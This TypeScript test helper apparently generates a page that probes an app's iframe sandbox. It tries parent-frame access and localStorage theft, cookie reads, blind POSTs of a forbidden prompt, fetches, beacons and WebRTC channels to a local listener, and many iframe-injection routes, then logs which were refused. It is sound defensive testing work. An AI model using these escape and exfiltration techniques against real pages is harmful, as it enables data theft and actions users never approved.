/** How an attempt ended. */
export type Attempt = 'refused' | `got out: ${string}`;

interface Aim {
  /** Address of the page around. */
  app: string;
  /** Where a test listens for what gets out. */
  port: number;
  /** A prompt that must not come to be. */
  name: string;
}

/** The body of a page that tries every way out of its frame and writes down how each ended in `window.outcome`. */
export function attempts({ app, port, name }: Aim): string {
  const out = `http://127.0.0.1:${port}`;
  const ws = app.replace(/^http/, 'ws');
  return `<p>Escapes</p>
<button id="leave" onclick="try { top.location.href = '${out}/top' } catch {} try { parent.location.replace('${out}/parent') } catch {}">leave</button>
<a id="window" href="${out}/window" target="_blank">window</a>
<a id="file" href="data:text/plain,x" download="x.txt">file</a>
<iframe srcdoc="<script>try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }).createDataChannel('x') } catch {}</script>"></iframe>
<form action="${out}/form" target="_blank"><button id="form">form</button></form>
<script>
const OUT = '${out}', APP = '${app}', MOST = 1500;
const late = () => new Promise((resolve) => setTimeout(resolve, MOST, 'refused'));
/** A promise of what an element that loads something says. */
const element = (tag, fields) => new Promise((resolve, reject) => {
  const one = Object.assign(document.createElement(tag), fields, { onload: () => resolve('loaded'), onerror: () => reject(new Error('error')) });
  document.body.append(one);
});
const prompt_ = JSON.stringify({ name: '${name}', text: 'x' });
const ways = {
  parentDocument: () => parent.document.title,
  topDocument: () => top.document.body,
  parentName: () => parent.location.href,
  parentStorage: () => parent.localStorage.secret,
  parentChange: () => { parent.document.title = 'taken over'; return 'changed'; },
  opener: () => { if (!window.opener) throw new Error('none'); return 'opener'; },
  frameElement: () => { if (!window.frameElement) throw new Error('none'); return 'element'; },
  cookie: () => document.cookie || 'empty',
  setCookie: () => { document.cookie = 'a=b'; return 'set'; },
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = resolve; asked.onerror = reject; }),
  caches: () => caches.open('x'),
  serviceWorker: () => navigator.serviceWorker.register(APP + '/theme.js'),
  fetchApp: () => fetch(APP + '/api/v1/status'),
  fetchAppBlind: () => fetch(APP + '/api/v1/prompts', { method: 'POST', mode: 'no-cors', body: prompt_ }),
  fetchOut: () => fetch(OUT + '/fetch'),
  fetchBlind: () => fetch(OUT + '/fetch', { mode: 'no-cors' }),
  xhrApp: () => new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.open('GET', APP + '/api/v1/status'); r.onload = resolve; r.onerror = reject; r.send(); }),
  socketApp: () => new Promise((resolve, reject) => { const s = new WebSocket('${ws}/api/v1/ws'); s.onopen = resolve; s.onerror = reject; }),
  socketOut: () => new Promise((resolve, reject) => { const s = new WebSocket('ws://127.0.0.1:${port}/ws'); s.onopen = resolve; s.onerror = reject; }),
  eventSource: () => new Promise((resolve, reject) => { const s = new EventSource(OUT + '/events'); s.onopen = resolve; s.onerror = reject; }),
  image: () => element('img', { src: OUT + '/img' }),
  imageApp: () => element('img', { src: APP + '/favicon.svg' }),
  script: () => element('script', { src: OUT + '/script' }),
  scriptApp: () => element('script', { src: APP + '/theme.js' }),
  module: () => import(OUT + '/module.js'),
  style: () => element('link', { rel: 'stylesheet', href: OUT + '/css' }),
  video: () => element('video', { src: OUT + '/video', autoplay: true }),
  object: () => element('object', { data: OUT + '/object' }),
  font: () => new FontFace('x', 'url(' + OUT + '/font)').load(),
  worker: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + OUT + "/worker').then(() => postMessage('out'))"]))); w.onmessage = resolve; w.onerror = reject; }),
  evaluate: () => eval('1 + 1'),
  popup: () => { if (!window.open(OUT + '/popup')) throw new Error('none'); return 'window'; },
  topLocation: () => { top.location.href = OUT + '/top'; return 'left'; },
  fullscreen: () => document.documentElement.requestFullscreen(),
  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  clipboard: () => navigator.clipboard.readText(),
  notify: () => Notification.requestPermission().then((said) => { if (said !== 'granted') throw new Error(said); return said; }),
};
/** No answer tells how these ended; whoever listens knows. */
function blind() {
  try { navigator.sendBeacon(OUT + '/beacon', 'x'); } catch {}
  try { navigator.sendBeacon(APP + '/api/v1/prompts', new Blob([prompt_], { type: 'text/plain' })); } catch {}
  for (const [rel, as] of [['prefetch'], ['preload', 'image'], ['preconnect'], ['dns-prefetch'], ['icon'], ['manifest']])
    document.head.append(Object.assign(document.createElement('link'), { rel, as: as ?? '', href: OUT + '/' + rel }));
  document.body.append(Object.assign(document.createElement('p'), { style: 'background:url(' + OUT + '/background)' }));
  document.body.append(Object.assign(document.createElement('iframe'), { src: OUT + '/iframe' }));
  document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch("' + OUT + '/srcdoc"); new Image().src = "' + OUT + '/srcimg"; ' + peer + '<' + '/script>' }));
  try { document.forms[0].submit(); } catch {}
  for (const id of ['window', 'file']) document.getElementById(id).click();
  try { alert('x'); confirm('x'); print(); } catch {}
  // A frame of its own for each way to make one.
  const inner = '<script>' + peer + '<' + '/script>';
  const markup = '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>';
  const add = (go) => { try { go(); } catch {} };
  add(() => document.body.insertAdjacentHTML('beforeend', markup));
  add(() => document.body.append(document.createRange().createContextualFragment(markup)));
  add(() => document.body.append(document.importNode(new DOMParser().parseFromString(markup, 'text/html').querySelector('iframe'), true)));
  add(() => { document.write('<ifr'); document.write('ame srcdoc="' + inner.replaceAll('"', '&quot;') + '"></ifr'); document.write('ame>'); });
  add(() => { const frame = document.createElement('iframe'); frame.setAttribute('srcdoc', inner); document.body.append(frame); });
  add(() => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.eval(peer); });
  add(() => { const frame = document.createElement('iframe'); frame.src = 'javascript:' + peer; document.body.append(frame); });
  add(() => { const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })); document.body.append(frame); });
  add(() => { const host = document.createElement('div'); document.body.append(host); host.setHTMLUnsafe('<template shadowrootmode="closed">' + markup + '</template>'); });
  add(() => { document.body.attachShadow; const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = markup; });
  try { new Function(peer)(); } catch {}
  document.body.append(Object.assign(document.createElement('script'), { textContent: peer }));
}
const peer = "try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}";
window.outcome = {};
(async () => {
  await Promise.all(Object.entries(ways).map(async ([way, go]) => {
    const ended = await Promise.race([Promise.resolve().then(go).then((value) => 'got out: ' + String(value), () => 'refused'), late()]);
    window.outcome[way] = ended;
  }));
  try { blind(); } catch (error) { window.outcome.blind = 'got out: broken test ' + error; }
  await late();
  document.body.append(Object.assign(document.createElement('i'), { id: 'done' }));
})();
</script>`;
}
